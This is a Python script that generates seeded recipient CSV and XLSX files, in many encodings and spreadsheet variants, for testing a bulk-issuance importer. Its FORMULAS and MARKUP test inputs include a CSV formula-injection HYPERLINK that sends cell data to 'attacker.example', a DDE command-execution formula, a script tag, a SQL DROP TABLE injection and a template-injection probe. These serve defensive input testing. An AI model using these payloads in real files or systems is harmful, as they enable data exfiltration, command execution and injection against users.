"""Make recipient files for bulk issuance: seeded, so every run makes the same bytes.

Run: .venv/bin/python bench/make_recipients.py [--rows 10000] [--seed 13] [--out DIR]
writes every variant into DIR (default ./data/recipients). Tests and benchmarks import it:

    from bench.make_recipients import recipients, csv_bytes, xlsx_bytes, VARIANTS
    people = recipients(10_000, seed=13)
    data = csv_bytes(people, delimiter=";", line_end="\\r\\n", bom=True)

Names are international the way real class lists are: Latin with diacritics (precomposed
and with combining marks), Greek, Cyrillic, Arabic, Hebrew, Devanagari, Thai, Chinese,
Japanese, Korean, emoji. Variants imitate what spreadsheets write: Excel's UTF-8 with a BOM
and CRLF, semicolons (European Excel), tabs, old Mac CR line ends, Windows-1252 and Latin-1,
UTF-16 ("Unicode text"), values with quoted newlines, formulas, markup, and the usual
mistakes (``mistakes()``, each with the problem code the review table must report).
"""

from __future__ import annotations

import argparse
import io
import random
import re
import unicodedata
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

# (given names, family names) by script. Western ones only use letters Windows-1252 has.
WESTERN = (
    [
        "José",
        "Zoë",
        "Françoise",
        "Jürgen",
        "Åsa",
        "Søren",
        "Ñuño",
        "Inês",
        "Björk",
        "Renée",
        "Lukas",
        "Mónica",
        "Çelik",
        "Ægir",
        "Éloïse",
        "Šárka",
        "Œdipe",
        "Zoé",
        "Noël",
        "Maëlle",
        "Joaquín",
        "João",
        "Grzegorz",
        "Hélène",
        "Ana",
        "Mary",
        "Olivia",
        "Noah",
        "Liam",
        "Emma",
    ],
    [
        "Müller",
        "Gómez",
        "Ångström",
        "Østergård",
        "D'Artagnan",
        "O'Brien",
        "Nuñez",
        "Lefèvre",
        "Smith",
        "García",
        "Žižek",
        "Brontë",
        "Dvorak",
        "Fernández",
        "Jönsson",
        "Kovacs",
        "Straße",
        "de la Cruz",
        "van der Berg",
        "Ruiz-Picasso",
        "Schrödinger",
        "Coração",
        "Œuvrard",
        "Šimek",
    ],
)
SCRIPTS = {
    "latin": (
        WESTERN[0]
        + [
            "Łukasz",
            "Dvořák",
            "Tomáš",
            "Agnieszka",
            "Ştefan",
            "Nguyễn",
            "İbrahim",
            "Ğülşen",
            "Ðorđe",
            "Kęstutis",
        ],
        WESTERN[1]
        + [
            "Kowalczyk",
            "Dvořák",
            "Kovač",
            "Świątek",
            "Trần",
            "Yılmaz",
            "Đoković",
            "Păunescu",
            "Žemaitė",
        ],
    ),
    "greek": (
        ["Γιώργος", "Ελένη", "Δημήτρης", "Μαρία", "Αθηνά", "Νίκος"],
        ["Παπαδόπουλος", "Νικολάου", "Οικονόμου", "Καραγιάννη", "Ιωάννου"],
    ),
    "cyrillic": (
        ["Иван", "Ольга", "Дмитрий", "Анастасия", "Олександр", "Ґанна", "Љубица"],
        ["Петров", "Смирнова", "Шевченко", "Кузнецов", "Јовановић", "Іваненко"],
    ),
    "arabic": (
        ["محمد", "فاطمة", "علي", "نور", "يوسف", "ليلى"],
        ["العلي", "حسن", "الشامي", "بن سعيد", "المصري"],
    ),
    "hebrew": (["דוד", "שרה", "יוסף", "מרים", "נועה"], ["כהן", "לוי", "מזרחי", "פרץ", "ביטון"]),
    "devanagari": (
        ["अर्जुन", "प्रिया", "सिद्धार्थ", "लक्ष्मी", "विक्रम"],
        ["शर्मा", "पाण्डेय", "त्रिवेदी", "कृष्णमूर्ति", "सिंह"],
    ),
    "thai": (["สมชาย", "สุดารัตน์", "ณัฐพล", "กิตติศักดิ์", "ปัณณวัฒน์"], ["ศรีสุข", "วงศ์สวัสดิ์", "ทองดี", "แก้วมณี"]),
    "chinese": (["伟", "芳", "秀英", "志强", "丽娟"], ["王", "李", "张", "欧阳", "刘"]),
    "japanese": (["さくら", "太郎", "ユウキ", "花子", "翔太"], ["佐藤", "鈴木", "高橋", "たなか"]),
    "korean": (["민준", "서연", "지훈", "하은"], ["김", "이", "박", "최"]),
}
EMOJI = ["🌟", "👩\u200d💻", "🇧🇷", "🎓", "❤️", "🧑🏽\u200d🔬"]
# Weights close to a real international list: mostly Latin, every script present.
WEIGHTS = {
    "latin": 50,
    "greek": 5,
    "cyrillic": 8,
    "arabic": 6,
    "hebrew": 4,
    "devanagari": 6,
    "thai": 4,
    "chinese": 7,
    "japanese": 5,
    "korean": 5,
}
FIXED_TIME = datetime(2026, 1, 1)
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
DOMAINS = ["example.com", "example.org", "uni.example.edu", "mail.example.net"]
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "=1+2",
    "+1 555 0100",
    "-Ana-",
    "@handle",
    "=cmd|' /C calc'!A0",
    "\uff1dSUM(A1:A2)",
]
MARKUP = [
    "<script>alert('x')</script>",
    "<b>Bold</b> Name",
    "Tom & Jerry",
    "&lt;Ada&gt;",
    '"Quoted" Name',
    "Robert'); DROP TABLE credentials;--",
    "{{ 7*7 }}",
    "<img src=x>",
]


@dataclass(frozen=True)
class Recipient:
    name: str
    email: str
    custom: dict[str, str] = field(default_factory=dict)
    expected: str = ""  # for mistakes(): the problem code the review table must report


def recipients(
    count: int = 10_000,
    *,
    seed: int = 13,
    scripts: Sequence[str] | None = None,
    custom_fields: Sequence[str] = (),
) -> list[Recipient]:
    """``count`` distinct, valid recipients; ``scripts`` limits the names' scripts
    (``["western"]``: names Windows-1252 can hold; ``["latin_1"]``: names Latin-1 can hold)."""
    rng = random.Random(seed)
    pools = _pools(scripts)
    names, weights = zip(*pools, strict=True)
    people = []
    for number in range(count):
        given, family = rng.choices(names, weights)[0]
        name = _name(rng, given, family, allow_extras=scripts is None)
        email = f"{_slug(name, number)}{number}@{rng.choice(DOMAINS)}"
        custom = {key: _custom_value(rng, key, number) for key in custom_fields}
        people.append(Recipient(name, email, custom))
    return people


def _pools(scripts: Sequence[str] | None):
    if scripts and list(scripts) in (["western"], ["latin_1"]):
        # Names a legacy code page can hold: Windows-1252, or Latin-1 (without Š, Œ, Ž).
        encoding = "cp1252" if list(scripts) == ["western"] else "latin_1"
        given, family = ([name for name in pool if _encodes(name, encoding)] for pool in WESTERN)
        return [((given, family), 1)]
    chosen = scripts or list(WEIGHTS)
    return [(SCRIPTS[script], WEIGHTS[script]) for script in chosen]


def _encodes(text: str, encoding: str) -> bool:
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


def _name(rng: random.Random, given: list[str], family: list[str], *, allow_extras: bool) -> str:
    name = f"{rng.choice(given)} {rng.choice(family)}"
    if allow_extras:
        roll = rng.random()
        if roll < 0.03:
            name = f"{name} {rng.choice(EMOJI)}"
        elif roll < 0.08:
            name = unicodedata.normalize("NFD", name)  # combining marks, as macOS writes them
    return name


def _slug(name: str, number: int) -> str:
    plain = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode().lower()
    letters = "".join(ch for ch in plain if ch.isalnum())[:16]
    return letters or "recipient"


def _custom_value(rng: random.Random, key: str, number: int) -> str:
    if key.endswith("score"):
        return str(rng.randint(40, 100))
    return rng.choice(["Lima", "Berlin", "Lagos", "São Paulo", "Kraków", "東京", "Mars"])


# --- Special rows ------------------------------------------------------------------------


def tricky(seed: int = 13) -> list[Recipient]:
    """Valid recipients whose names are hard for a reader: quoted newlines, delimiters and
    quotes inside values, formulas, markup."""
    rng = random.Random(seed)
    names = [
        "Smith, John",
        "Ana; Maria",
        "Tab\tInside",
        'Ada "The Countess" King',
        "Line One\nLine Two",
        "Carriage\r\nReturn",
        'Trailing quote"',
        *FORMULAS,
        *MARKUP,
    ]
    return [
        Recipient(name, f"tricky{number}@{rng.choice(DOMAINS)}")
        for number, name in enumerate(names)
    ]


def mistakes() -> list[Recipient]:
    """The usual mistakes, each with the problem code (laurel.bulk.rows) it must get."""
    return [
        Recipient("  Padded Name  ", "  padded@example.com  "),
        Recipient("Upper Case", "UPPER.Case@Example.COM"),
        Recipient("Dup Case", "upper.case@example.com ", expected="duplicate"),
        Recipient("", "noname@example.com", expected="missing_name"),
        Recipient("   ", "blankname@example.com", expected="missing_name"),
        Recipient("No Email", "", expected="missing_email"),
        Recipient("Bad Email", "not-an-email", expected="malformed_email"),
        Recipient("Two At", "x@@example.com", expected="malformed_email"),
        Recipient("Space Inside", "sp ace@example.com", expected="malformed_email"),
        Recipient("No Domain Dot", "a@b", expected="malformed_email"),
        Recipient("Bell\x07Name", "bell@example.com", expected="control_character"),
        Recipient("L" * 201, "long@example.com", expected="too_long"),
        Recipient("Long Email", "a" * 250 + "@example.com", expected="too_long"),
        Recipient(
            "Unknown Field",
            "unknown@example.com",
            {"custom_nope": "x"},
            expected="unknown_custom_field",
        ),
    ]


# --- Files -------------------------------------------------------------------------------


def _table(people: Iterable[Recipient], custom_fields: Sequence[str]) -> list[list[str]]:
    header = ["name", "email", *custom_fields]
    extra = sorted({key for person in people for key in person.custom} - set(custom_fields))
    rows = [header + extra]
    for person in people:
        rows.append(
            [person.name, person.email, *(person.custom.get(k, "") for k in header[2:] + extra)]
        )
    return rows


def csv_bytes(
    people: Iterable[Recipient],
    *,
    delimiter: str = ",",
    line_end: str = "\n",
    bom: bool = False,
    encoding: str = "utf-8",
    custom_fields: Sequence[str] = (),
    header_case: str = "lower",
) -> bytes:
    """A CSV of ``people`` as a spreadsheet would save it."""
    people = list(people)
    table = _table(people, custom_fields)
    if header_case == "title":
        table[0] = [
            heading.title() if not heading.startswith("custom_") else heading
            for heading in table[0]
        ]
    text = "".join(_csv_line(cells, delimiter) + line_end for cells in table)
    if encoding.lower().replace("-", "") in ("utf16", "utf32"):
        return text.encode(encoding)  # Python writes the byte order mark itself
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


def _csv_line(cells: Sequence[str], delimiter: str) -> str:
    # As spreadsheets write it: quoted when holding the delimiter, a quote or any line break
    # (the csv module quotes only the line end it writes, so "\n" in a CR file went bare).
    special = (delimiter, '"', "\r", "\n")
    return delimiter.join(
        '"' + cell.replace('"', '""') + '"' if any(ch in cell for ch in special) else cell
        for cell in cells
    )


def xlsx_bytes(
    people: Iterable[Recipient],
    *,
    custom_fields: Sequence[str] = (),
    blank_rows_before: int = 0,
    first_column: int = 1,
) -> bytes:
    """An XLSX of ``people`` (first sheet), every value stored as text, as typed."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Recipients")
    for _ in range(blank_rows_before):
        sheet.append([])
    for values in _table(list(people), custom_fields):
        cells = [None] * (first_column - 1)
        for value in values:
            # XML cannot hold control characters: Excel writes them as _xHHHH_ escapes.
            value = CONTROL.sub(lambda found: f"_x{ord(found.group()):04X}_", value)
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # "=1+2" typed as text stays text
            cells.append(cell)
        sheet.append(cells)
    workbook.create_sheet("Notes").append(["not read: Laurel reads the first sheet"])
    workbook.properties.created = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_timestamps(buffer.getvalue())


def _fixed_timestamps(archive: bytes) -> bytes:
    """The same workbook with every part dated FIXED_TIME, so a seed gives the same bytes."""
    source, target = io.BytesIO(archive), io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as fixed:
        for part in original.infolist():
            info = zipfile.ZipInfo(part.filename, date_time=FIXED_TIME.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            data = original.read(part)
            if part.filename == "docProps/core.xml":  # openpyxl dates "modified" at save
                data = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2026-01-01T00:00:00Z", data
                )
            fixed.writestr(info, data)
    return target.getvalue()


# Each variant: (file name, a function of (people) making its bytes).
VARIANTS = {
    "utf8.csv": lambda people: csv_bytes(people),
    "excel-bom-crlf.csv": lambda people: csv_bytes(
        people, bom=True, line_end="\r\n", header_case="title"
    ),
    "semicolon.csv": lambda people: csv_bytes(people, delimiter=";", line_end="\r\n", bom=True),
    "tab.csv": lambda people: csv_bytes(people, delimiter="\t"),
    "mac-cr.csv": lambda people: csv_bytes(people, line_end="\r"),
    "utf16.csv": lambda people: csv_bytes(
        people, delimiter="\t", line_end="\r\n", encoding="utf-16"
    ),
    "recipients.xlsx": lambda people: xlsx_bytes(people),
    "blank-rows-first.xlsx": lambda people: xlsx_bytes(people, blank_rows_before=3, first_column=2),
}
# Legacy code pages, each with the names it can hold: (scripts for recipients(), encoding).
LEGACY_VARIANTS = {
    "cp1252.csv": (["western"], "cp1252"),
    "latin-1.csv": (["latin_1"], "latin-1"),
}


def legacy_csv(name: str, rows: int, seed: int = 13) -> bytes:
    """The legacy-encoded variant ``name`` of LEGACY_VARIANTS, as Windows Excel saves it."""
    scripts, encoding = LEGACY_VARIANTS[name]
    people = recipients(rows, seed=seed, scripts=scripts)
    return csv_bytes(people, encoding=encoding, line_end="\r\n")


def write_all(out: Path, rows: int, seed: int) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    people = recipients(rows, seed=seed)
    written = []
    for name, make in VARIANTS.items():
        written.append(out / name)
        written[-1].write_bytes(make(people))
    for name in LEGACY_VARIANTS:
        written.append(out / name)
        written[-1].write_bytes(legacy_csv(name, rows, seed))
    for name, make in {"tricky.csv": tricky, "mistakes.csv": mistakes}.items():
        written.append(out / name)
        written[-1].write_bytes(csv_bytes(make(), line_end="\r\n"))
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=13)
    parser.add_argument("--out", type=Path, default=Path("data/recipients"))
    arguments = parser.parse_args()
    for path in write_all(arguments.out, arguments.rows, arguments.seed):
        print(f"{path}  {path.stat().st_size:,} bytes")


if __name__ == "__main__":
    main()
